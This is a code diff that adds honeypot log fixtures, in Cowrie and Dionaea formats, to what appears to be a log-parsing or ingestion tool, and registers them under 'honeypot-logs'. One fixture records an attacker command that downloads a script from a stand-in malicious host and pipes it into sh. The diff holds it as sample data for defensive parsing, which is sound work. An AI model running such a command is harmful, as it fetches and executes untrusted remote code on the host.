@@ -146,6 +146,22 @@ class PackageLogs(_Logs):
     )
 
 
+class HoneypotLogs(_Logs):
+    seeds = tuple(
+        json.dumps({"timestamp": "2026-01-31T12:00:00.000000Z", "src_ip": "192.0.2.1", **record}).encode() + b"\n"
+        for record in (
+            {
+                "eventid": "cowrie.command.input",
+                "session": "s1",
+                "input": "cd /tmp; wget http://a.evil-x.com/x -O- | sh",
+            },
+            {"eventid": "cowrie.session.file_download", "session": "s1", "url": "http://[2001:db8::1]/x"},
+            {"connection": {"type": "accept"}, "credentials": [{}], "ftp": {"commands": [{"command": "tftp 1.1.1.1"}]}},
+            {"origin": "dionaea.download.offer", "data": {"url": "http://a.evil-x.com", "connection": {}}},
+        )
+    )
+
+
 class FlowFiles(Door):
     """A flow file, and at times a good one, of which every flow counts."""
 
@@ -385,6 +401,7 @@ DOORS: dict[str, type[Door]] = {
     "zeek-tsv": ZeekTsv,
     "zeek-json": ZeekJson,
     "package-logs": PackageLogs,
+    "honeypot-logs": HoneypotLogs,
     "lists": Lists,
     "findings": PostedFindings,
     "hand-over": HandedOver,
